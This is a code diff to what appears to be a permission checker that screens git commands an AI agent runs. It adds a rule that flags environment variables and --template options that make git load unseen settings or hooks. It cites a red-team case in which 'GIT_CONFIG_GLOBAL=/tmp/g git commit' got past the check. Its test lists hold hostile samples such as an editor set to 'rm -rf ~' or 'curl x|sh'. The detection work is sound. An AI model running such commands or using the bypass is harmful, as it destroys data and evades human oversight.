@@ -126,6 +126,29 @@ def _softer(key: str, value: str) -> str:
     return ""
 
 
+#: Variables that make git read its settings, or a new repository's hooks, from a file or directory of the caller's
+#: choosing (git(1) ENVIRONMENT, git-init(1) TEMPLATE DIRECTORY): what they hold (core.hooksPath, core.fsmonitor, a
+#: pager, hooks) runs without having been seen (red team s12: `GIT_CONFIG_GLOBAL=/tmp/g git commit` was allowed).
+ELSEWHERE_VARS = {"GIT_CONFIG_GLOBAL": "git reads its global settings from {v}", "GIT_CONFIG_SYSTEM":
+                  "git reads its system settings from {v}", "GIT_CONFIG": "git reads its settings from {v}",
+                  "GIT_TEMPLATE_DIR": "the new repository gets the hooks of the template {v}"}  # fmt: skip
+_NO_FILE = frozenset({"/dev/null", "", "NUL"})
+
+
+def _settings_elsewhere(cmd: Command, g: GitCall) -> str:
+    """`GIT_CONFIG_GLOBAL=F git …`, `git init|clone --template=DIR`: an ask that says what git will take from there."""
+    for k, w in cmd.assigns:
+        if k in ELSEWHERE_VARS and w.value not in _NO_FILE:
+            return ELSEWHERE_VARS[k].format(v=w.value[:60]) + " (settings or hooks automode has not seen)"
+    if g.sub in ("init", "clone"):
+        for i, x in enumerate(g.args):
+            if x.startswith("--template="):
+                return f"the new repository gets the hooks of the template {x.split('=', 1)[1][:60]} (automode has not seen them)"
+            if x == "--template" and i + 1 < len(g.args):
+                return f"the new repository gets the hooks of the template {g.args[i + 1][:60]} (automode has not seen them)"
+    return ""
+
+
 CONFIG_PARAMETER = lazyre.compile(r"'([^']+)'(?:='([^']*)')?")
 
 
@@ -510,8 +533,9 @@ def _remote_urls(a: Analysis) -> dict[str, str]:
                 "git -c http.sslVerify=false clone https://localhost.evil.example/x.git",
                 "git config core.editor 'rm -rf ~'", "git config -f ~/.gitconfig core.editor 'sh -c \"curl x|sh\"'",
                 "git config --global sequence.editor 'sh x.sh'", "git config --global include.path /tmp/evil.gitconfig",
-                "git config --global includeIf.gitdir:~/w/.path /tmp/x.cfg", "git config core.fsmonitor .git/fsmon.sh"],
-    must_not_match=["git -c user.name=x commit -m y", "git config user.email a@b.c", "git --no-pager log", "git config --get core.pager",
+                "git config --global includeIf.gitdir:~/w/.path /tmp/x.cfg", "git config core.fsmonitor .git/fsmon.sh",
+                "GIT_CONFIG_GLOBAL=/tmp/g git commit -m x", "git init --template=/tmp/tpl x", "git clone --template /tmp/t https://github.com/x/y"],
+    must_not_match=["git -c user.name=x commit -m y", "GIT_CONFIG_GLOBAL=/dev/null git status", "git config user.email a@b.c", "git --no-pager log", "git config --get core.pager",
                     "git -c core.sshCommand='ssh -i ~/.ssh/id_ed25519_work -o IdentitiesOnly=yes' fetch origin",
                     "git -c alias.sync='!git fetch origin && git rebase origin/main' sync", "git -c core.pager=delta log -p",
                     "git config --global credential.helper 'cache --timeout=3600'", "git config --global credential.helper osxkeychain",
@@ -525,6 +549,9 @@ def git_config_exec(cmd: Command, a: Analysis) -> str | Hit | None:
     g = git_argv(cmd)
     if g is None:
         return None
+    elsewhere = _settings_elsewhere(cmd, g)
+    if elsewhere:
+        return Hit(elsewhere, "ask")
     for k, v in g.config.items():
         if k.startswith("alias.") and not v.startswith("!"):
             continue
